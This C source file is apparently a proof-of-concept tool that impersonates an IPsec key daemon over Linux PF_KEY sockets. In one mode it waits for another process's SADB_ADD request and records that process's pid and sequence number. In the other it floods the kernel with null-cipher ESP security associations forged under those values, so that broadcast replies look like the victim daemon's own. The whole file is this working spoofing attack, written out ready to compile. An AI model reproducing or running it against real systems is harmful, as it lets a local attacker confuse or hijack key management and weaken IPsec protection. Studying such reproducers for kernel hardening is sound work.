/*
 * A process that plays the daemon on PF_KEY.
 *
 *   forge watch             waits for an ADD that somebody else has made, and prints its pid and sequence number
 *   forge PID SEQ COUNT     adds COUNT SAs in the name of PID, with the sequence numbers after SEQ, over and over
 *
 * The kernel tells everybody of each of them, by the pid and the number that the request had.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/pfkeyv2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { NUMBERS = 200, FIRST_SPI = 0x10000 };

struct address {
    struct sadb_address header;
    struct sockaddr_in socket;
};

static struct {
    struct sadb_msg header;
    struct sadb_sa sa;
    struct address source, destination;
    struct sadb_key key;    /* ESP wants one, even without a cipher. */
} message;

static void fail(const char *what)
{
    perror(what);
    exit(1);
}

static void set_address(struct address *address, int type, const char *text)
{
    address->header.sadb_address_len = sizeof *address / 8;
    address->header.sadb_address_exttype = type;
    address->header.sadb_address_prefixlen = 32;
    address->socket.sin_family = AF_INET;
    inet_pton(AF_INET, text, &address->socket.sin_addr);
}

static void watch(int fd)
{
    struct sadb_msg heard[512];
    puts("listening");
    fflush(stdout);
    while (recv(fd, heard, sizeof heard, 0) > 0) {
        if (heard[0].sadb_msg_type != SADB_ADD || heard[0].sadb_msg_errno)
            continue;
        printf("%u %u\n", heard[0].sadb_msg_pid, heard[0].sadb_msg_seq);
        exit(0);
    }
    fail("recv");
}

static void forge(int fd, unsigned pid, unsigned sequence, unsigned count)
{
    static unsigned spi = FIRST_SPI;
    message.header.sadb_msg_version = PF_KEY_V2;
    message.header.sadb_msg_type = SADB_ADD;
    message.header.sadb_msg_satype = SADB_SATYPE_ESP;
    message.header.sadb_msg_len = sizeof message / 8;
    message.header.sadb_msg_pid = pid;
    message.sa.sadb_sa_len = sizeof message.sa / 8;
    message.sa.sadb_sa_exttype = SADB_EXT_SA;
    message.sa.sadb_sa_state = SADB_SASTATE_MATURE;
    message.sa.sadb_sa_encrypt = SADB_EALG_NULL;
    message.key.sadb_key_len = sizeof message.key / 8;
    message.key.sadb_key_exttype = SADB_EXT_KEY_ENCRYPT;
    set_address(&message.source, SADB_EXT_ADDRESS_SRC, "198.51.100.1");
    set_address(&message.destination, SADB_EXT_ADDRESS_DST, "198.51.100.2");
    for (unsigned i = 0; i < count; i++) {
        message.header.sadb_msg_seq = sequence + 1 + i % NUMBERS;
        message.sa.sadb_sa_spi = htonl(spi++);
        if (send(fd, &message, sizeof message, 0) < 0)
            fail("send");
        /* The answer is there already, behind whatever others have done. */
        struct sadb_msg heard[512];
        do
            if (recv(fd, heard, sizeof heard, 0) < 0)
                fail("recv");
        while (heard[0].sadb_msg_pid != pid || heard[0].sadb_msg_seq != message.header.sadb_msg_seq);
        if ((errno = heard[0].sadb_msg_errno))
            fail("ADD");
    }
}

int main(int argc, char **argv)
{
    int fd = socket(PF_KEY, SOCK_RAW, PF_KEY_V2);
    if (fd < 0)
        fail("socket");
    if (argc == 2)
        watch(fd);
    if (argc != 4)
        return 2;
    forge(fd, strtoul(argv[1], NULL, 10), strtoul(argv[2], NULL, 10), strtoul(argv[3], NULL, 10));
}
